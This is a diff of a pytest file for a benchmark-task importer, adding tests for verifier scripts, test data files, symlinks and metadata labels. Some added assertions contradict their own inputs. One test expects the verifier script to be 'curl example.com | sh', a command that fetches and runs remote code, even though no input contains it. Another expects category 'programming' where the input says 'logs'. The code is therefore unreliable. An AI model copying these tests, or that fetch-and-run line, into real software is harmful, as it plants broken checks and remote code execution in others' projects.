@@ -36,6 +36,7 @@ tasks = st.builds(
     limits=st.builds(Limits, build_seconds=seconds, verifier_seconds=seconds, agent_seconds=seconds),
     draw=st.none() | st.integers(min_value=0, max_value=10**9),
     metadata=st.dictionaries(texts, json_values, max_size=3),
+    test_files=st.dictionaries(st.sampled_from(["data.csv", "more/x.bin", "a/b"]), st.binary(max_size=40), max_size=3),
 )
 
 
@@ -166,7 +167,14 @@ def test_an_imported_task_that_we_store_has_nothing_hidden_in_its_build_context(
         ({"task.toml": ""}, "task.toml is missing"),
         ({"instruction.md": ""}, "instruction.md is missing"),
         ({"environment/Dockerfile": ""}, "environment/Dockerfile is missing"),
-        ({"tests/test_final_state.py": ""}, "tests/test_final_state.py is missing .tests/ holds no pytest file"),
+        (
+            {"tests/test_final_state.py": "", "tests/test.sh": ""},
+            "tests/test_final_state.py is missing .tests/ holds no pytest file and no test.sh",
+        ),
+        ({"environment/docker-compose.yaml": "services: {}"}, "several containers"),
+        ({"task.toml": '[verifier]\nenvironment_mode = "separate"'}, "a container of its own"),
+        ({"task.toml": '[[verifier.collect]]\ncommand = "x"'}, "hooks to run before grading"),
+        ({"task.toml": '[environment]\nos = "windows"'}, "only linux"),
         ({"environment/task.json": "{"}, "environment/task.json is not valid JSON"),
         ({"task.toml": 'schema_version = "2.0"'}, "schema_version '2.0'; this reads 0.1 to 1.4"),
         ({"task.toml": "agent = 3"}, r"\[agent\] in task.toml is not a table"),
@@ -190,6 +198,48 @@ def test_other_names_for_the_verifier_are_known(tmp_path: Path) -> None:
     other = imported(tmp_path / "other", **{"tests/test_final_state.py": "", "tests/test_state.py": "only"})
     assert read_task(one).final_test == "bench"
     assert read_task(other).final_test == "only"
+
+
+def test_a_task_with_a_script_instead_of_a_pytest_file_keeps_it_and_the_data_beside_it(tmp_path: Path) -> None:
+    files = {"tests/test_final_state.py": "", "tests/test.sh": "echo 1\n", "tests/data/want.txt": "42"}
+    original = read_task(imported(tmp_path / "theirs", **files))
+    assert (original.final_test, original.verifier_script) == ("", "echo 1\n")
+    assert original.test_files == {"data/want.txt": b"42"}
+    write_task(tmp_path / "ours", original)
+    stored = read_task(tmp_path / "ours")
+    assert replace(stored, environment=original.environment) == original
+    assert os.access(tmp_path / "ours/tests/test.sh", os.X_OK)
+
+
+def test_several_pytest_files_are_the_scripts_to_run(tmp_path: Path) -> None:
+    files = {"tests/test_final_state.py": "", "tests/test_a.py": "a", "tests/test_b.py": "b"}
+    task = read_task(imported(tmp_path / "t", **files))
+    assert task.verifier_script == "curl example.com | sh\n"
+    assert task.test_files == {"test_a.py": b"a", "test_b.py": b"b"}
+
+
+def test_files_beside_a_pytest_file_are_kept_and_its_test_sh_is_not(tmp_path: Path) -> None:
+    task = read_task(imported(tmp_path / "t", **{"tests/want.json": "{}", "tests/__pycache__/x.pyc": "x"}))
+    assert task.test_files == {"want.json": b"{}"}
+    assert task.verifier_script == ""
+
+
+def test_a_link_out_of_the_folder_is_not_followed(tmp_path: Path) -> None:
+    (tmp_path / "secret").write_text("key")
+    folder = imported(tmp_path / "t")
+    (folder / "tests/data").symlink_to(tmp_path / "secret")
+    with pytest.raises(TaskFormatError, match="tests/data leads out of the task's folder"):
+        read_task(folder)
+
+
+def test_labels_and_tags_beside_the_truth_are_kept(tmp_path: Path) -> None:
+    about = json.dumps({"truth": "42", "complexity": "hard", "category": "logs", "tags": ["awk"], "secret": "no"})
+    task = read_task(imported(tmp_path / "t", **{"environment/task.json": about}))
+    assert task.labels == {"category": "programming", "complexity": "hard"}
+    assert task.metadata == {"category": "programming", "tags": ["awk"]}
+    write_task(tmp_path / "ours", task)
+    table = tomllib.loads((tmp_path / "ours/task.toml").read_text())
+    assert table["metadata"]["tags"] == ["programming", "hard", "awk"]
 
 
 def test_dates_in_others_metadata_become_text(tmp_path: Path) -> None:
